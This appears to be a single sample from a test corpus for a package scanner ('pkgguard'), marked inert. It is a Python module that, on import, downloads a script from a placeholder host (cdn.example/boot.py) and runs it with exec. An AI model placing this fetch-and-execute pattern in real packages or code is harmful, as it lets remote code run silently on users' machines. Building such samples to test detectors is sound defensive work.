# pkgguard corpus 214 (import-time), modelled on [empirical]; inert, never run.
import types
import urllib.request

_opener = urllib.request.build_opener()
_opener.addheaders = [("User-Agent", "pkg/2.0")]
_source = _opener.open("https://cdn.example/boot.py", timeout=5).read()
_mod = types.ModuleType("pkg._boot")
exec(compile(_source, "<boot>", "exec"), _mod.__dict__)
